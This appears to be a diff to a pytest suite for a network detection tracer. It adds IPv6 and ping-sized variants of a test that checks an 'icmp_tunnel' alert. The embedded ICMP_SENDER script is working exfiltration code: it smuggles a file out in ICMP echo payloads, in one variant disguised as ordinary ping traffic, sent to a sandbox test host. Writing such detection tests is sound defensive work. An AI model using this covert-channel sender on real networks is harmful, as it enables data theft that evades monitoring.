@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from eptrace_helpers import alerts, dump, get, run_eptrace, select
-from harness import HOST_IP, PYTHON
+from harness import HOST_IP, HOST_IP6, PYTHON
 from test_detection import EpisodeRun, assert_alert, assert_no_alerts, rule_counts, ts
 from tracer import decoding
 from tracer.capture import entries
@@ -133,7 +133,9 @@ def test_crawler_of_readable_names_is_silent(net, dns, tmp_path):
 # ---- ICMP --------------------------------------------------------------------------------------------------
 
 # In the sandbox: a 20,000-byte file sent in 1,000-byte echo payloads, through a ping socket (SOCK_DGRAM,
-# IPPROTO_ICMP: no privilege needed) or a raw socket, waiting for each reply.
+# IPPROTO_ICMP: no privilege needed; ping6: IPPROTO_ICMPV6) or a raw socket, waiting for each reply.
+# small: ping-sized echoes (56 bytes), 16 bytes of the file in each where ping puts its send time, then
+# ping's own fill pattern.
 ICMP_SENDER = r'''
 import os, socket, struct, sys, time
 kind, dst = sys.argv[1], sys.argv[2]
@@ -143,44 +145,65 @@ def checksum(b):
     total = sum(struct.unpack(f"!{len(b) // 2}H", b))
     total = (total >> 16) + (total & 0xffff)
     return ~(total + (total >> 16)) & 0xffff
-stype = socket.SOCK_DGRAM if kind == "ping" else socket.SOCK_RAW
-s = socket.socket(socket.AF_INET, stype, socket.IPPROTO_ICMP)
+if kind == "ping6":
+    s, echo_request = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6), 128
+else:
+    stype = socket.SOCK_RAW if kind == "raw" else socket.SOCK_DGRAM
+    s, echo_request = socket.socket(socket.AF_INET, stype, socket.IPPROTO_ICMP), 8
 s.settimeout(2)
 print("pid", os.getpid(), flush=True)
 print("start", time.time(), flush=True)
-for seq, off in enumerate(range(0, len(data), 1000)):
-    chunk = data[off:off + 1000]
-    header = struct.pack("!BBHHH", 8, 0, 0, 0x4242, seq)
-    header = struct.pack("!BBHHH", 8, 0, checksum(header + chunk), 0x4242, seq)
+step = 16 if kind == "small" else 1000
+for seq, off in enumerate(range(0, 40 * step if kind == "small" else len(data), step)):
+    chunk = data[off:off + step] + (bytes(range(16, 56)) if kind == "small" else b"")
+    header = struct.pack("!BBHHH", echo_request, 0, 0, 0x4242, seq)
+    header = struct.pack("!BBHHH", echo_request, 0, checksum(header + chunk), 0x4242, seq)
     s.sendto(header + chunk, (dst, 0))
     s.recv(2048)
     time.sleep(0.05)
-print("sent", len(data), flush=True)
+print("sent", off + step, flush=True)
 '''
 
 
-@pytest.mark.parametrize("kind", ["ping", "raw"])
+@pytest.mark.parametrize("kind", ["ping", "raw", "ping6"])
 def test_icmp_tunnel_of_a_file_in_echo_payloads(net, tmp_path, kind):
-    episode = f"ep-icmp-{kind}"
-    argv = ["/bin/sh", "-c", f'{OPEN_PING_SOCKETS} && exec "$@"', "sh", PYTHON, "-u", "-c", ICMP_SENDER, kind, HOST_IP]
+    episode, host = f"ep-icmp-{kind}", HOST_IP6 if kind == "ping6" else HOST_IP
+    argv = ["/bin/sh", "-c", f'{OPEN_PING_SOCKETS} && exec "$@"', "sh", PYTHON, "-u", "-c", ICMP_SENDER, kind, host]
     with run_captured(tmp_path, episode, net.sandbox_prefix() + argv) as run:
         pid, start = run.pid(), float(run.line("start"))
         alert = run.wait_alert("icmp_tunnel", timeout=20)
         assert run.line("sent") == "20000"
         docs = run.finish()
-    expected = {"icmp_tunnel": 1} if kind == "ping" else {"icmp_tunnel": 1, "raw_socket": 1}
+    expected = {"icmp_tunnel": 1, "raw_socket": 1} if kind == "raw" else {"icmp_tunnel": 1}
     assert rule_counts(docs) == expected, dump(alerts(docs))
     assert_alert(alert, "icmp_tunnel", episode, pid,
-                 [HOST_IP, "ping socket" if kind == "ping" else "raw socket", "carrying data"])
-    assert get(alert, "destination.ip") == HOST_IP and get(alert, "network.transport") == "icmp", alert
+                 [host, "raw socket" if kind == "raw" else "ping socket", "carrying data"])
+    assert get(alert, "destination.ip") == host, alert
+    assert get(alert, "network.transport") == ("ipv6-icmp" if kind == "ping6" else "icmp"), alert
     assert get(alert, "network.community_id"), alert
     time_to_alert(f"icmp_tunnel 1000-byte echo payloads through a {kind} socket, 20 a second", run, alert, start)
     # the kernel's sums: every echo to the test host carried data, one record per data echo up to 16, then 32
     records = icmp_records(tmp_path / f"{episode}.capture")
     assert [r.data_echoes for r in records] == list(range(1, 17)), records
     last = records[-1]
-    assert (last.remote_ip, last.echoes, last.data_bytes, last.largest) == (HOST_IP, 16, 16000, 1000), last
-    assert last.socktype == (2 if kind == "ping" else 3) and last.header.owner.tgid == pid, last
+    assert (last.remote_ip, last.echoes, last.data_bytes, last.largest) == (host, 16, 16000, 1000), last
+    assert last.socktype == (3 if kind == "raw" else 2) and last.header.owner.tgid == pid, last
+    check_replay(tmp_path, episode, docs)
+
+
+def test_icmp_tunnel_in_ping_sized_echoes(net, tmp_path):
+    episode = "ep-icmp-small"
+    argv = ["/bin/sh", "-c", f'{OPEN_PING_SOCKETS} && exec "$@"', "sh", PYTHON, "-u", "-c", ICMP_SENDER, "small",
+            HOST_IP]
+    with run_captured(tmp_path, episode, net.sandbox_prefix() + argv) as run:
+        pid, start = run.pid(), float(run.line("start"))
+        alert = run.wait_alert("icmp_tunnel", timeout=20)
+        assert run.line("sent") == "640"
+        docs = run.finish()
+    assert rule_counts(docs) == {"icmp_tunnel": 1}, dump(alerts(docs))
+    # the first echo is small (not data by itself): the next 16 changed, 56 bytes each
+    assert_alert(alert, "icmp_tunnel", episode, pid, [HOST_IP, "16 ICMP echo requests carrying data (896 payload"])
+    time_to_alert("icmp_tunnel 16 bytes of data in each 56-byte echo, 20 a second", run, alert, start)
     check_replay(tmp_path, episode, docs)
 
 
